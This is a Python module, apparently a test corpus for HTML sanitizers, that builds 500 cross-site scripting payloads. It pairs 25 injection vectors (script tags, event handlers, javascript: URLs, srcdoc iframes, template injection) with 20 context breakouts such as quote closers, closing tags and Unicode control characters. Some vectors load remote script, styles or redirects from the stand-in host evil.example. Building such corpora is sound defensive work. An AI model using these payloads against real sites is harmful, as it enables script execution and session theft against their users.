"""500 texts that try to be more than text: 25 deeds, each behind 20 ways out of the place where it stands.

Our own making, from the elements, attributes and schemes of the HTML standard that can run script or load
something. A deed that runs sets `window.__ran` or opens a dialog; one that loads asks for `evil.example`.
"""

from __future__ import annotations

RUN = "window.__ran=1;alert(1)"

DEEDS = (
    f"<script>{RUN}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></mtext><img src=x onerror={RUN}></math>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    "<embed src=https://evil.example/x>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>see</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    f"<form action=javascript:{RUN}><button autofocus>go</button></form>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "{{constructor.constructor('window.__ran=1')()}}${window.__ran=1}{%raw%}",
    f"javascript:{RUN}//",
)

WAYS_OUT = (
    "",
    '">',
    "'>",
    '" autofocus onfocus=window.__ran=1 x="',
    "' onmouseover=window.__ran=1 x='",
    "</script>",
    "</title>",
    "</style>",
    "</textarea>",
    "</svg>",
    "</span></td></table>",
    "-->",
    "<!--",
    "]]>",
    '\\";',
    "\u2028",
    "\u202e",
    "\\u003c/script\\u003e",
    "{red|x}",
    "../../%2e%2e/",
)

PAYLOADS = tuple(f"{way}{deed}" for way in WAYS_OUT for deed in DEEDS)
